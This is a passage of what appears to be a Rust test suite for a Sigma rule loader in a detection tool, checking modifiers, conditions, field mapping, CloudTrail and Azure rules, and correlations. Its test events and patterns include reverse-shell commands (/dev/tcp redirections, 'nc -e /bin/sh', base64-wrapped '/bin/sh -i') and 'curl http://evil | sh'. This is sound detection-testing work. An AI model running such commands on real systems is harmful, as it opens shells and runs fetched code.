//! The Sigma dialect: every modifier and condition form (a must-match and a must-not-match event
//! each), the Linux and cloud field mapping, correlations, filters, embedded tests, and located
//! errors for malformed rules.

use base64::Engine as _;
use fnwarden_event::{Event, FieldRef};
use fnwarden_rules::{CorrelationKind, LoadError, Rule, RuleSet, Severity, load_str};
use proptest::prelude::*;
use serde_json::json;

fn set(src: &str) -> RuleSet {
    load_str(src, "t.yml")
}

fn rule(src: &str) -> Rule {
    let s = set(src);
    assert!(s.errors.is_empty(), "{:#?}", s.errors);
    assert_eq!(s.rules.len(), 1);
    s.rules.into_iter().next().unwrap()
}

fn error(src: &str) -> LoadError {
    let s = set(src);
    assert!(s.rules.is_empty() && s.correlations.is_empty(), "loaded: {:?}", s.rules);
    s.errors.into_iter().next().expect("an error")
}

fn ev(mut v: serde_json::Value) -> Event {
    if v.get("time").is_none() {
        v["time"] = json!("2026-11-22T10:30:00Z");
    }
    let mut e: Event = serde_json::from_value(v).unwrap();
    e.normalize();
    e
}

fn fires(r: &Rule, e: &Event) -> bool {
    r.kinds.contains(e.kind) && r.condition.matches(e)
}

fn exec(args: &[&str]) -> Event {
    ev(json!({"type": "execve", "proc": {"exe": format!("/usr/bin/{}", args[0]), "args": args, "user": "www-data", "cwd": "/srv"}}))
}

/// A process_creation rule with `sel` as its selection.
fn pc(sel: &str) -> Rule {
    rule(&format!(
        "title: t\nlogsource: {{product: linux, category: process_creation}}\ndetection:\n  selection:\n{sel}\n  condition: selection\n"
    ))
}

fn pc_err(sel: &str) -> LoadError {
    error(&format!(
        "title: t\nlogsource: {{product: linux, category: process_creation}}\ndetection:\n  selection:\n{sel}\n  condition: selection\n"
    ))
}

// ---- plain values and wildcards ----

#[test]
fn plain_values_are_case_insensitive_equality() {
    let r = pc("    Image: /USR/BIN/CURL");
    assert!(fires(&r, &exec(&["curl", "x"])));
    assert!(!fires(&r, &exec(&["wget", "x"])));
}

#[test]
fn wildcards_and_escapes() {
    let r = pc("    CommandLine: 'curl * | ?h'");
    assert!(fires(&r, &exec(&["curl", "http://x", "|", "sh"])));
    assert!(!fires(&r, &exec(&["curl", "http://x", "|", "bash"])));
    let lit = pc(r"    CommandLine|contains: 'a\*b'");
    assert!(fires(&lit, &exec(&["echo", "a*b"])));
    assert!(!fires(&lit, &exec(&["echo", "axxb"])));
}

#[test]
fn value_lists_are_alternatives() {
    let r = pc("    Image|endswith:\n      - /nc\n      - /ncat");
    assert!(fires(&r, &exec(&["ncat", "-l"])));
    assert!(!fires(&r, &exec(&["socat", "-l"])));
}

#[test]
fn numbers_and_booleans() {
    let net =
        |port: u16| ev(json!({"type": "connect", "proc": {"exe": "/bin/nc"}, "net": {"remote": {"ip": "203.0.113.9", "port": port}}}));
    let r = rule(
        "title: t\nlogsource: {product: linux, category: network_connection}\ndetection:\n  selection:\n    Initiated: 'true'\n    DestinationPort:\n      - 4444\n      - 1337\n  condition: selection\n",
    );
    assert!(fires(&r, &net(4444)));
    assert!(!fires(&r, &net(443)));
    let inbound =
        ev(json!({"type": "accept", "net": {"local": {"ip": "10.0.0.1", "port": 4444}, "remote": {"ip": "203.0.113.9", "port": 5555}}}));
    assert!(!fires(&r, &inbound));
}

#[test]
fn null_means_absent_and_empty_means_empty() {
    let r = pc("    Image|endswith: /curl\n  filter:\n    User: null");
    let r2 = rule(
        "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  selection:\n    Image|endswith: /curl\n  absent:\n    User: null\n  condition: selection and absent\n",
    );
    assert!(fires(&r, &exec(&["curl"])));
    assert!(!fires(&r2, &exec(&["curl"])));
    assert!(fires(&r2, &ev(json!({"type": "execve", "proc": {"exe": "/usr/bin/curl"}}))));
    let empty = pc("    CurrentDirectory: ''");
    assert!(fires(&empty, &ev(json!({"type": "execve", "proc": {"exe": "/usr/bin/curl"}}))));
    assert!(!fires(&empty, &exec(&["curl"])));
}

// ---- every modifier ----

#[test]
fn contains_startswith_endswith() {
    let c = pc("    CommandLine|contains: 'DEV/TCP'");
    assert!(fires(&c, &exec(&["bash", "-c", "cat </dev/tcp/1.2.3.4/80"])));
    assert!(!fires(&c, &exec(&["bash", "-c", "id"])));
    let s = pc("    CommandLine|startswith: 'bash -c'");
    assert!(fires(&s, &exec(&["bash", "-c", "id"])));
    assert!(!fires(&s, &exec(&["sh", "bash", "-c"])));
    let e = pc("    Image|endswith: '/bash'");
    assert!(fires(&e, &exec(&["bash"])));
    assert!(!fires(&e, &exec(&["bashful"])));
}

#[test]
fn all_joins_values_with_and() {
    let r = pc("    CommandLine|contains|all:\n      - ' -s '\n      - truncate");
    assert!(fires(&r, &exec(&["truncate", "-s", "0", "f"])));
    assert!(!fires(&r, &exec(&["truncate", "--size", "0", "f"])));
}

#[test]
fn base64_and_base64offset() {
    let r = pc("    CommandLine|base64|contains: 'id;'");
    let enc = base64::engine::general_purpose::STANDARD.encode("id;");
    assert!(fires(&r, &exec(&["sh", "-c", &format!("echo {enc} | base64 -d | sh")])));
    assert!(!fires(&r, &exec(&["sh", "-c", "echo aWQK"])));

    let o = pc("    CommandLine|base64offset|contains: '/bin/sh -i'");
    for pre in ["", "x", "xy", "abcd"] {
        let enc = base64::engine::general_purpose::STANDARD.encode(format!("{pre}/bin/sh -i 2>&1"));
        assert!(fires(&o, &exec(&["bash", "-c", &format!("echo {enc}|base64 -d|bash")])), "offset {}", pre.len());
    }
    let other = base64::engine::general_purpose::STANDARD.encode("/bin/ls -la");
    assert!(!fires(&o, &exec(&["bash", "-c", &format!("echo {other}")])));
}

#[test]
fn utf16_encodings_feed_base64() {
    let utf16le: Vec<u8> = "whoami".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let utf16be: Vec<u8> = "whoami".encode_utf16().flat_map(u16::to_be_bytes).collect();
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    for (m, bytes) in [("wide", &utf16le), ("utf16le", &utf16le), ("utf16be", &utf16be)] {
        let r = pc(&format!("    CommandLine|{m}|base64|contains: whoami"));
        assert!(fires(&r, &exec(&["pwsh", "-enc", &b64(bytes)])), "{m}");
        assert!(!fires(&r, &exec(&["pwsh", "-enc", &b64(b"whoami")])), "{m}");
    }
    let mut bom = vec![0xFF, 0xFE];
    bom.extend_from_slice(&utf16le);
    let r = pc("    CommandLine|utf16|base64|contains: whoami");
    assert!(fires(&r, &exec(&["pwsh", "-enc", &b64(&bom)])));
    assert!(!fires(&r, &exec(&["pwsh", "-enc", &b64(&utf16le)])));
}

#[test]
fn windash_matches_every_dash() {
    let r = pc("    CommandLine|windash|contains: ' -decode '");
    assert!(fires(&r, &exec(&["certutil", "/decode", "a", "b"])));
    assert!(fires(&r, &exec(&["certutil", "\u{2013}decode", "a", "b"])));
    assert!(!fires(&r, &exec(&["certutil", "decode", "a", "b"])));
}

#[test]
fn regular_expressions_and_flags() {
    let r = pc("    CommandLine|re: 'nc(at)? -e /bin/(ba)?sh'");
    assert!(fires(&r, &exec(&["ncat", "-e", "/bin/bash"])));
    assert!(!fires(&r, &exec(&["NC", "-e", "/bin/sh"])));
    let i = pc("    CommandLine|re|i: '^nc -e'");
    assert!(fires(&i, &exec(&["NC", "-e", "/bin/sh"])));
    assert!(!fires(&i, &exec(&["x", "nc", "-e"])));
    let m = pc("    CommandLine|re|m: '^second$'");
    assert!(fires(&m, &exec(&["echo", "first\nsecond"])));
    let no_m = pc("    CommandLine|re: '^second$'");
    assert!(!fires(&no_m, &exec(&["echo", "first\nsecond"])));
    let s = pc("    CommandLine|re|s: 'first.second'");
    assert!(fires(&s, &exec(&["echo", "first\nsecond"])));
    let no_s = pc("    CommandLine|re: 'first.second'");
    assert!(!fires(&no_s, &exec(&["echo", "first\nsecond"])));
    let bad = pc_err("    CommandLine|re: '(unclosed'");
    assert_eq!((bad.line, bad.col), (5, 21), "{bad}");
    assert!(bad.message.contains("regular expression"), "{bad}");
}

#[test]
fn cidr() {
    let r = rule(
        "title: t\nlogsource: {product: linux, category: network_connection}\ndetection:\n  selection:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fc00::/7'\n  condition: selection\n",
    );
    let to = |ip: &str| ev(json!({"type": "connect", "net": {"remote": {"ip": ip, "port": 80}}}));
    assert!(fires(&r, &to("10.20.30.40")));
    assert!(fires(&r, &to("fd00::1")));
    assert!(!fires(&r, &to("192.168.1.1")));
}

#[test]
fn exists() {
    let yes = pc("    User|exists: true");
    let no = pc("    User|exists: false");
    let without = ev(json!({"type": "execve", "proc": {"exe": "/bin/sh"}}));
    assert!(fires(&yes, &exec(&["sh"])) && !fires(&yes, &without));
    assert!(fires(&no, &without) && !fires(&no, &exec(&["sh"])));
}

#[test]
fn expand_needs_a_configuration() {
    let e = pc_err("    User|expand: '%Administrators%'");
    assert!(e.message.contains("%Administrators%") && e.message.contains("configuration"), "{e}");
    let plain = pc(r"    CommandLine|expand|contains: '\%TEMP%'");
    assert!(fires(&plain, &exec(&["cmd", "%TEMP%"])));
    assert!(!fires(&plain, &exec(&["cmd", "TEMP"])));
}

#[test]
fn fieldref_compares_two_fields() {
    let r = rule(
        "title: t\nlogsource: {product: fnwarden}\ndetection:\n  selection:\n    proc.name|fieldref: proc.pname\n  condition: selection\n",
    );
    let same = ev(json!({"type": "execve", "proc": {"exe": "/bin/sh", "ancestors": [{"exe": "/bin/sh"}]}}));
    let other = ev(json!({"type": "execve", "proc": {"exe": "/bin/sh", "ancestors": [{"exe": "/usr/bin/python3"}]}}));
    assert!(fires(&r, &same));
    assert!(!fires(&r, &other));
    let n = rule(
        "title: t\nlogsource: {product: fnwarden}\ndetection:\n  selection:\n    proc.name|fieldref|neq: proc.pname\n  condition: selection\n",
    );
    assert!(!fires(&n, &same) && fires(&n, &other));
}

#[test]
fn numeric_comparisons() {
    let to = |port: u16| ev(json!({"type": "connect", "net": {"remote": {"ip": "203.0.113.9", "port": port}}}));
    for (m, yes, no) in [("gt", 1025, 1024), ("gte", 1024, 1023), ("lt", 1023, 1024), ("lte", 1024, 1025)] {
        let r = rule(&format!(
            "title: t\nlogsource: {{product: linux, category: network_connection}}\ndetection:\n  selection:\n    DestinationPort|{m}: 1024\n  condition: selection\n"
        ));
        assert!(fires(&r, &to(yes)), "{m}");
        assert!(!fires(&r, &to(no)), "{m}");
    }
    let e = pc_err("    CommandLine|gt: 3");
    assert!(e.message.contains("proc.exeline") && e.message.contains("numeric"), "{e}");
}

#[test]
fn time_parts() {
    // 2026-11-22T10:30:00Z is a Sunday in ISO week 47.
    let e = exec(&["sh"]);
    for (m, yes, no) in [("minute", 30, 31), ("hour", 10, 11), ("day", 22, 23), ("week", 47, 48), ("month", 11, 12), ("year", 2026, 2025)] {
        assert!(fires(&pc(&format!("    UtcTime|{m}: {yes}")), &e), "{m}");
        assert!(!fires(&pc(&format!("    UtcTime|{m}: {no}")), &e), "{m}");
    }
    assert!(fires(&pc("    UtcTime|hour|gte: 9"), &e));
    assert!(!fires(&pc("    UtcTime|hour|lt: 9"), &e));
}

#[test]
fn cased() {
    let r = pc("    CommandLine|cased|contains: 'IEX'");
    assert!(fires(&r, &exec(&["pwsh", "IEX(x)"])));
    assert!(!fires(&r, &exec(&["pwsh", "iex(x)"])));
}

#[test]
fn neq() {
    let r = pc("    Image|endswith: /sudo\n    User|neq: root");
    assert!(fires(&r, &exec(&["sudo"])));
    let root = ev(json!({"type": "execve", "proc": {"exe": "/usr/bin/sudo", "user": "ROOT"}}));
    assert!(!fires(&r, &root));
    let numbers = rule(
        "title: t\nlogsource: {product: linux, category: network_connection}\ndetection:\n  selection:\n    DestinationPort|neq:\n      - 80\n      - 443\n  condition: selection\n",
    );
    let to = |port: u16| ev(json!({"type": "connect", "net": {"remote": {"ip": "203.0.113.9", "port": port}}}));
    assert!(fires(&numbers, &to(8080)));
    assert!(!fires(&numbers, &to(443)) && !fires(&numbers, &to(80)));
}

// ---- keywords ----

#[test]
fn keywords_search_the_event_text() {
    let r = rule(
        "title: t\nlogsource: {product: linux, service: syslog}\ndetection:\n  keywords:\n    - 'stopping iptables'\n    - 'denied AXFR from *'\n  condition: keywords\n",
    );
    let log = |m: &str| ev(json!({"type": "log", "log": {"message": m}}));
    assert!(fires(&r, &log("Nov 22 systemd: Stopping iptables firewall")));
    assert!(fires(&r, &log("named: client denied AXFR from 10.0.0.1#53")));
    assert!(!fires(&r, &log("named: zone loaded")));
    let all = rule(
        "title: t\nlogsource: {product: linux}\ndetection:\n  keywords:\n    '|all':\n      - 'bash -c'\n      - '/dev/tcp/'\n  condition: keywords\n",
    );
    assert!(fires(&all, &exec(&["bash", "-c", "exec 3<>/dev/tcp/1.2.3.4/80"])));
    assert!(!fires(&all, &exec(&["bash", "-c", "id"])));
}

// ---- conditions ----

fn cond(c: &str) -> Rule {
    rule(&format!(
        "title: t\nlogsource: {{product: linux, category: process_creation}}\ndetection:\n  sel_curl:\n    Image|endswith: /curl\n  sel_wget:\n    Image|endswith: /wget\n  sel_pipe:\n    CommandLine|contains: '| sh'\n  filter_local:\n    CommandLine|contains: localhost\n  _aux:\n    User: nobody\n  condition: {c}\n"
    ))
}

#[test]
fn condition_forms() {
    let curl_pipe = exec(&["curl", "http://evil", "| sh"]);
    let curl_local = exec(&["curl", "http://localhost", "| sh"]);
    let wget = exec(&["wget", "http://evil"]);
    let ls = exec(&["ls"]);

    let r = cond("sel_curl and sel_pipe");
    assert!(fires(&r, &curl_pipe) && !fires(&r, &wget));
    let r = cond("sel_curl or sel_wget");
    assert!(fires(&r, &wget) && !fires(&r, &ls));
    let r = cond("sel_curl and not filter_local");
    assert!(fires(&r, &curl_pipe) && !fires(&r, &curl_local));
    let r = cond("(sel_curl or sel_wget) and not (filter_local or sel_pipe)");
    assert!(fires(&r, &wget) && !fires(&r, &curl_pipe));
    let r = cond("1 of sel_* and not 1 of filter_*");
    assert!(fires(&r, &wget) && !fires(&r, &curl_local) && !fires(&r, &ls));
    let r = cond("all of sel_*");
    assert!(!fires(&r, &curl_pipe));
    let r = cond("all of sel_c* and all of sel_p*");
    assert!(fires(&r, &curl_pipe) && !fires(&r, &wget));
    let r = cond("1 of them");
    assert!(fires(&r, &exec(&["ls", "localhost"])) && fires(&r, &wget) && !fires(&r, &ls));
    let r = rule(
        "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  a:\n    Image|endswith: /curl\n  b:\n    Image|endswith: /wget\n  condition:\n    - a\n    - b\n",
    );
    assert!(fires(&r, &wget) && fires(&r, &curl_pipe) && !fires(&r, &ls));
}

#[test]
fn all_of_them_needs_every_selection_but_not_underscored_ones() {
    let r = rule(
        "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  a:\n    Image|endswith: /curl\n  b:\n    CommandLine|contains: evil\n  _never:\n    User: nobody\n  condition: all of them\n",
    );
    assert!(fires(&r, &exec(&["curl", "evil"])));
    assert!(!fires(&r, &exec(&["curl", "good"])));
}

#[test]
fn unknown_identifiers_suggest_close_names() {
    let e = error(
        "title: Curl rule\nlogsource: {product: linux, category: process_creation}\ndetection:\n  selection:\n    Image|endswith: /curl\n  condition: selection and not fliter\n",
    );
    assert_eq!((e.line, e.col), (6, 32), "{e}");
    assert_eq!(e.rule.as_deref(), Some("Curl rule"));
    assert!(e.message.contains("unknown search identifier `fliter`"), "{e}");
    let e = error(
        "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  selection:\n    Image|endswith: /curl\n  condition: selection and not filter\n",
    );
    assert!(e.message.contains("`filter`") && !e.message.contains("did you mean"), "{e}");
}

// ---- field mapping ----

#[test]
fn linux_process_fields_map_onto_the_event() {
    let parent = ev(json!({"type": "execve", "proc": {
        "pid": 42, "ppid": 7, "exe": "/usr/bin/whoami", "args": ["whoami"], "user": "www-data", "cwd": "/var/www",
        "ancestors": [{"pid": 7, "exe": "/usr/sbin/apache2", "args": ["/usr/sbin/apache2", "-k", "start"]}]}}));
    let r = pc(
        "    Image: /usr/bin/whoami\n    CommandLine: whoami\n    ParentImage|endswith: /apache2\n    ParentCommandLine: '/usr/sbin/apache2 -k start'\n    User: www-data\n    CurrentDirectory: /var/www\n    ProcessId: 42\n    ParentProcessId: 7",
    );
    assert!(fires(&r, &parent));
    let mut other = parent.clone();
    if let Some(p) = other.process.as_mut() {
        p.pid = 43;
    }
    assert!(!fires(&r, &other));
    // The rule only applies to executions.
    let open = ev(json!({"type": "open", "proc": {"exe": "/usr/bin/whoami"}, "file": {"path": "/etc/passwd"}}));
    let img = pc("    Image: /usr/bin/whoami");
    assert!(img.condition.matches(&open) && !fires(&img, &open));
    let e = pc_err("    OriginalFileName: whoami.exe");
    assert_eq!((e.line, e.col), (5, 5));
    assert!(e.message.contains("Windows"), "{e}");
}

#[test]
fn file_and_network_fields() {
    let f = rule(
        "title: t\nlogsource: {product: linux, category: file_event}\ndetection:\n  selection:\n    TargetFilename|startswith: /etc/cron.d/\n    Image|endswith: /bash\n  condition: selection\n",
    );
    let write = ev(json!({"type": "open", "proc": {"exe": "/bin/bash"}, "file": {"path": "/etc/cron.d/job", "flags": "O_WRONLY|O_CREAT"}}));
    let read = ev(json!({"type": "open", "proc": {"exe": "/bin/bash"}, "file": {"path": "/etc/cron.d/job", "flags": "O_RDONLY"}}));
    assert!(fires(&f, &write) && !fires(&f, &read));
    let n = rule(
        "title: t\nlogsource: {product: linux, category: network_connection}\ndetection:\n  selection:\n    DestinationHostname|endswith: .ngrok.io\n    SourcePort|gte: 1024\n    Protocol: tcp\n  condition: selection\n",
    );
    let c = ev(
        json!({"type": "connect", "net": {"proto": "tcp", "local": {"ip": "10.0.0.2", "port": 40000}, "remote": {"ip": "3.3.3.3", "port": 443}, "remote_host": "x.tcp.ngrok.io"}}),
    );
    assert!(fires(&n, &c));
    let udp = ev(
        json!({"type": "connect", "net": {"proto": "udp", "local": {"ip": "10.0.0.2", "port": 40000}, "remote": {"ip": "3.3.3.3", "port": 443}, "remote_host": "x.tcp.ngrok.io"}}),
    );
    assert!(!fires(&n, &udp));
}

#[test]
fn auditd_records_map_onto_event_types() {
    let r = rule(
        "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  execve:\n    type: EXECVE\n    a0: chmod\n    a1: 777\n  path:\n    type: PATH\n    name|startswith: /etc/systemd/system/\n    nametype: CREATE\n  tty:\n    type: TTY\n  sys:\n    type: SYSCALL\n    SYSCALL: memfd_create\n  condition: 1 of them\n",
    );
    assert!(fires(&r, &exec(&["chmod", "777", "/tmp/x"])));
    assert!(!fires(&r, &exec(&["chmod", "755", "/tmp/x"])));
    let create = ev(json!({"type": "open", "file": {"path": "/etc/systemd/system/evil.service", "flags": "O_WRONLY|O_CREAT"}}));
    let modify = ev(json!({"type": "open", "file": {"path": "/etc/systemd/system/evil.service", "flags": "O_WRONLY"}}));
    assert!(fires(&r, &create) && !fires(&r, &modify));
    let memfd = ev(json!({"type": "memfd_create", "proc": {"exe": "/tmp/x"}}));
    assert!(fires(&r, &memfd));
    let e = error(
        "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: SYSCALL\n    SYSCALL: personality\n  condition: sel\n",
    );
    assert!(e.message.contains("never hold") && e.message.contains("personality"), "{e}");
    assert_eq!((e.line, e.col), (7, 14));
}

#[test]
fn fnwarden_names_are_used_verbatim() {
    let r = pc("    proc.aname[2]: gunicorn\n    function.runtime|startswith: python");
    let e = ev(
        json!({"type": "execve", "function": {"runtime": "python3.12"}, "proc": {"exe": "/bin/sh", "ancestors": [{"name": "python3"}, {"name": "gunicorn"}]}}),
    );
    assert!(fires(&r, &e));
    let e2 = ev(
        json!({"type": "execve", "function": {"runtime": "nodejs20.x"}, "proc": {"exe": "/bin/sh", "ancestors": [{"name": "python3"}, {"name": "gunicorn"}]}}),
    );
    assert!(!fires(&r, &e2));
}

// ---- cloud ----

fn cloudtrail(record: serde_json::Value) -> Event {
    let g = |p: &str| record.pointer(p).and_then(|v| v.as_str()).unwrap_or("").to_owned();
    ev(json!({"type": "cloud_api", "source": "cloudtrail", "cloud": {
        "provider": "aws", "service": g("/eventSource"), "operation": g("/eventName"),
        "principal": g("/userIdentity/arn"), "principal_type": g("/userIdentity/type"),
        "source_ip": g("/sourceIPAddress"), "user_agent": g("/userAgent"), "error_code": g("/errorCode"),
        "raw": record }}))
}

fn login_profile(user: &str, arn: &str) -> serde_json::Value {
    json!({
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE", "arn": arn, "accountId": "111122223333", "userName": "alice"},
        "eventTime": "2026-11-22T10:00:00Z", "eventSource": "iam.amazonaws.com", "eventName": "UpdateLoginProfile",
        "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.7", "userAgent": "aws-cli/2.15.0",
        "requestParameters": {"userName": user, "passwordResetRequired": false},
        "responseElements": null, "requestID": "r-1", "eventID": "e-1", "readOnly": false, "eventType": "AwsApiCall",
        "recipientAccountId": "111122223333"
    })
}

#[test]
fn cloudtrail_paths_fields_and_fieldref() {
    let r = rule(
        "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  selection:\n    eventSource: iam.amazonaws.com\n    eventName: UpdateLoginProfile\n    requestParameters.passwordResetRequired: 'false'\n    errorCode: null\n  filter_self:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: selection and not filter_self\n",
    );
    let other = cloudtrail(login_profile("bob", "arn:aws:iam::111122223333:user/alice"));
    let own = cloudtrail(login_profile("alice", "arn:aws:iam::111122223333:user/alice"));
    assert!(fires(&r, &other));
    assert!(!fires(&r, &own));
    let mut failed = login_profile("bob", "arn:aws:iam::111122223333:user/alice");
    failed["errorCode"] = json!("AccessDenied");
    assert!(!fires(&r, &cloudtrail(failed)));

    let whole = rule(
        "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  selection:\n    userIdentity.arn|endswith: ':user/alice'\n    sourceIPAddress|cidr: 198.51.100.0/24\n    requestParameters|contains: '\"userName\":\"bob\"'\n  condition: selection\n",
    );
    assert!(fires(&whole, &other) && !fires(&whole, &own));
}

#[test]
fn cloud_rules_need_their_provider() {
    let r = rule(
        "title: t\nlogsource: {product: azure, service: activitylogs}\ndetection:\n  selection:\n    operationName: MICROSOFT.COMPUTE/VIRTUALMACHINES/DELETE\n    properties.message|contains: deleted\n  condition: selection\n",
    );
    let az = ev(
        // As the Azure reader makes it: `operationName` is also `cloud.api` (it may be a
        // {value, localizedValue} pair in the raw record).
        json!({"type": "cloud_api", "cloud": {"provider": "azure", "operation": "Microsoft.Compute/virtualMachines/delete", "raw": {"operationName": "Microsoft.Compute/virtualMachines/delete", "properties": {"message": "vm deleted"}}}}),
    );
    assert!(fires(&r, &az));
    let mut aws = az.clone();
    if let Some(c) = aws.cloud.as_mut() {
        c.provider = "aws".into();
    }
    assert!(!fires(&r, &aws));
    let mut keep = az.clone();
    if let Some(c) = keep.cloud.as_mut() {
        c.raw["properties"]["message"] = json!("vm started");
    }
    assert!(!fires(&r, &keep));
}

// ---- meta, tests, statuses ----

#[test]
fn metadata() {
    let r = rule(
        "title: Curl to shell\nname: curl_sh\nstatus: test\ndescription: d\nauthor: [a, b]\nlicense: DRL-1.1\nlevel: high\nreferences: [https://x]\nfalsepositives: [admins]\ntags: [attack.execution, attack.t1059.004]\nfields: [CommandLine]\nlogsource: {product: linux, category: process_creation}\ndetection:\n  selection:\n    Image|endswith: /curl\n  condition: selection\n",
    );
    let m = &r.meta;
    assert_eq!(m.id, "Curl to shell");
    assert_eq!(m.name.as_deref(), Some("curl_sh"));
    assert_eq!((m.severity, m.author.as_str(), m.license.as_deref()), (Severity::High, "a, b", Some("DRL-1.1")));
    assert_eq!(m.mitre, ["T1059.004"]);
    assert_eq!(m.falsepositives, ["admins"]);
    assert!(m.enabled && m.generate);
    assert_eq!(m.source.line, 1);
    let d = rule(
        "title: t\nid: 1234\nstatus: deprecated\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: /x\n  condition: s\n",
    );
    assert_eq!(d.meta.id, "1234");
    assert!(!d.meta.enabled);
    let e = error(
        "title: t\nlevel: urgent\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: /x\n  condition: s\n",
    );
    assert_eq!((e.line, e.col), (2, 8));
}

#[test]
fn embedded_tests() {
    let r = rule(
        "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /nc\n  condition: s\ntests:\n  match:\n    - {type: execve, proc: {exe: /bin/nc, args: [nc, -l]}}\n  no_match:\n    - {type: execve, proc: {exe: /bin/ls}}\n",
    );
    assert_eq!(r.tests.len(), 2);
    for t in &r.tests {
        assert_eq!(fires(&r, &t.event), t.should_match, "line {}", t.line);
    }
    assert_eq!(r.tests[0].line, 9);
    let e = error(
        "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: /x\n  condition: s\ntests:\n  match:\n    - {type: execve, prc: {}}\n",
    );
    assert_eq!(e.line, 9);
    assert!(e.message.contains("prc"), "{e}");
}

// ---- correlations ----

const BRUTE: &str = "title: Failed SSH logins then success
id: corr-1
level: high
correlation:
  type: temporal_ordered
  rules:
    - many_failures
    - ssh_success
  group-by:
    - src
  aliases:
    src:
      many_failures: fd.cip
      ssh_success: net.http.host
  timespan: 10m
tests:
  match:
    - - {type: log, log: {message: x}}
---
title: Many failures
name: many_failures
correlation:
  type: event_count
  rules: [ssh_failure]
  group-by: [User]
  timespan: 5m
  condition: {gte: 10, lt: 1000}
---
title: SSH failure
id: 11111111-1111-4111-8111-111111111111
name: ssh_failure
logsource: {product: linux, category: network_connection}
detection:
  s:
    DestinationPort: 22
  condition: s
---
title: SSH success
name: ssh_success
logsource: {product: linux, category: network_connection}
detection:
  s:
    DestinationPort: 2222
  condition: s
";

#[test]
fn correlations_parse_into_the_ir() {
    let s = set(BRUTE);
    assert!(s.errors.is_empty(), "{:#?}", s.errors);
    assert_eq!((s.rules.len(), s.correlations.len()), (2, 2));
    let top = s.correlations.iter().find(|c| c.meta.id == "corr-1").unwrap();
    assert_eq!(top.kind, CorrelationKind::TemporalOrdered);
    assert_eq!(top.rules, ["many_failures", "ssh_success"]);
    assert_eq!(top.timespan_ns, 600_000_000_000);
    assert_eq!(top.group_by[0].name, "src");
    // The alias for a chained correlation resolves through to its rule's log source.
    assert_eq!(top.group_by[0].per_rule, [FieldRef::parse("fd.cip").unwrap(), FieldRef::parse("net.http.host").unwrap()]);
    assert_eq!(top.meta.severity, Severity::High);
    assert_eq!(top.tests.len(), 1);
    let count = s.correlations.iter().find(|c| c.meta.name.as_deref() == Some("many_failures")).unwrap();
    assert_eq!(count.kind, CorrelationKind::EventCount);
    assert_eq!(count.group_by[0].per_rule, [FieldRef::parse("user.name").unwrap()]);
    assert_eq!(count.threshold.conditions.len(), 2);
    assert!(count.threshold.test(10.0) && !count.threshold.test(9.0) && !count.threshold.test(1000.0));
    // generate defaults to false: the referenced rules stop alerting on their own.
    assert!(!count.generate);
    assert!(s.rules.iter().all(|r| !r.meta.generate));
}

fn corr(body: &str) -> RuleSet {
    set(&format!(
        "title: c\ncorrelation:\n{body}\n---\ntitle: base\nname: base\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n  s:\n    eventName: ConsoleLogin\n  condition: s\n"
    ))
}

#[test]
fn every_correlation_type() {
    let ok = |body: &str| {
        let s = corr(body);
        assert!(s.errors.is_empty(), "{body}: {:#?}", s.errors);
        s.correlations.into_iter().next().unwrap()
    };
    let principal = FieldRef::parse("cloud.principal").unwrap();
    let c = ok(
        "  type: value_count\n  rules: base\n  group-by: [sourceIPAddress]\n  timespan: 1h\n  condition: {field: userIdentity.arn, gt: 5}\n  generate: true",
    );
    assert_eq!(c.kind, CorrelationKind::ValueCount { field: principal.clone() });
    assert_eq!(c.group_by[0].per_rule, [FieldRef::parse("cloud.source_ip").unwrap()]);
    assert!(c.generate);
    let raw = FieldRef::parse("cloud.raw.additionalEventData.bytes").unwrap();
    let c = ok("  type: value_sum\n  rules: [base]\n  timespan: 1d\n  condition: {field: additionalEventData.bytes, gte: 1000000}");
    assert_eq!(c.kind, CorrelationKind::ValueSum { field: raw.clone() });
    let c = ok("  type: value_avg\n  rules: [base]\n  timespan: 30s\n  condition: {field: additionalEventData.bytes, neq: 0}");
    assert_eq!(c.kind, CorrelationKind::ValueAvg { field: raw.clone() });
    let c = ok("  type: value_median\n  rules: [base]\n  timespan: 30s\n  condition: {field: additionalEventData.bytes, eq: 3}");
    assert_eq!(c.kind, CorrelationKind::ValueMedian { field: raw.clone() });
    let c = ok(
        "  type: value_percentile\n  rules: [base]\n  timespan: 30s\n  condition: {field: additionalEventData.bytes, percentile: 95, lte: 1}",
    );
    assert_eq!(c.kind, CorrelationKind::ValuePercentile { field: raw, percentile: 95.0 });
    let c = ok("  type: event_count\n  rules: [base]\n  timespan: 2h\n  condition: {gte: 3}");
    assert_eq!(c.timespan_ns, 7_200_000_000_000);

    let bad = |body: &str, needle: &str| {
        let s = corr(body);
        assert!(s.correlations.is_empty(), "{body}");
        let e = s.errors.first().unwrap_or_else(|| panic!("{body}: no error"));
        assert!(e.message.contains(needle), "{body}: {e}");
        assert!(e.line > 0 && e.rule.as_deref() == Some("c"), "{e}");
    };
    bad("  type: value_percentile\n  rules: [base]\n  timespan: 30s\n  condition: {field: x, lte: 1}", "percentile");
    bad("  type: event_cnt\n  rules: [base]\n  timespan: 30s\n  condition: {gte: 1}", "did you mean `event_count`");
    bad("  type: event_count\n  rules: [base]\n  timespan: 5w\n  condition: {gte: 1}", "timespan");
    bad("  type: event_count\n  rules: [base]\n  timespan: 5m", "needs a `condition`");
    bad("  type: value_count\n  rules: [base]\n  timespan: 5m\n  condition: {gte: 1}", "needs `field`");
